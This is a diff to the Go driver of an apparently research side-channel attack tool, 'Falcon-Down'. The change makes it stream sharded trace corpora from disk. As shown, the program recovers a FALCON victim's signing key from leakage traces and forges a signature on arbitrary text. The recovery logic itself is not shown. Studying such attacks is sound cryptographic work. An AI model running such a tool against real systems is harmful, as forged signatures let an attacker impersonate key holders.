@@ -1,10 +1,16 @@
-// Command attack runs the Falcon-Down key extraction on a trace file
+// Command attack runs the Falcon-Down key extraction on a trace corpus
 // produced by cmd/tracegen, reconstructs the full signing key from the
 // victim's public key, and demonstrates the break by forging a signature.
 //
+// The corpus is streamed from disk — shards are swept a bounded number of
+// times and never loaded whole, so corpora far larger than memory work
+// unchanged. Both the sharded v2 format and legacy single-file "FDTR"
+// captures are accepted; -traces may name a file, a shard glob, or a
+// directory of shards.
+//
 // Usage:
 //
-//	attack -traces traces.fdtr -pub victim.pub -msg "arbitrary text"
+//	attack -traces traces.fdt2 -pub victim.pub -msg "arbitrary text"
 package main
 
 import (
@@ -15,13 +21,13 @@ import (
 
 	"falcondown/internal/codec"
 	"falcondown/internal/core"
-	"falcondown/internal/emleak"
 	"falcondown/internal/falcon"
 	"falcondown/internal/rng"
+	"falcondown/internal/tracestore"
 )
 
 func main() {
-	tracePath := flag.String("traces", "traces.fdtr", "trace file from tracegen")
+	tracePath := flag.String("traces", "traces.fdt2", "trace corpus from tracegen (file, shard glob, or directory)")
 	pubPath := flag.String("pub", "victim.pub", "victim public key")
 	msg := flag.String("msg", "forged by falcondown", "message to forge a signature for")
 	sigOut := flag.String("sig", "forged.sig", "forged signature output")
@@ -34,16 +40,13 @@ func main() {
 }
 
 func run(tracePath, pubPath, msg, sigOut string) error {
-	f, err := os.Open(tracePath)
+	corpus, err := tracestore.Open(tracePath)
 	if err != nil {
 		return err
 	}
-	defer f.Close()
-	n, obs, err := emleak.ReadObservations(f)
-	if err != nil {
-		return err
-	}
-	fmt.Printf("loaded %d traces of a FALCON-%d victim\n", len(obs), n)
+	n := corpus.N()
+	fmt.Printf("opened corpus of %d traces of a FALCON-%d victim (%d shard(s))\n",
+		corpus.Count(), n, corpus.Shards())
 
 	pb, err := os.ReadFile(pubPath)
 	if err != nil {
@@ -60,8 +63,8 @@ func run(tracePath, pubPath, msg, sigOut string) error {
 	}
 	pub := &falcon.PublicKey{Params: params, H: h}
 
-	fmt.Println("running divide-and-conquer extend-and-prune extraction...")
-	priv, report, err := core.RecoverKey(obs, pub, core.Config{})
+	fmt.Println("running streamed divide-and-conquer extend-and-prune extraction...")
+	priv, report, err := core.RecoverKeyFrom(corpus, pub, core.Config{})
 	if err != nil {
 		return fmt.Errorf("key recovery failed (detected, not silent): %w", err)
 	}
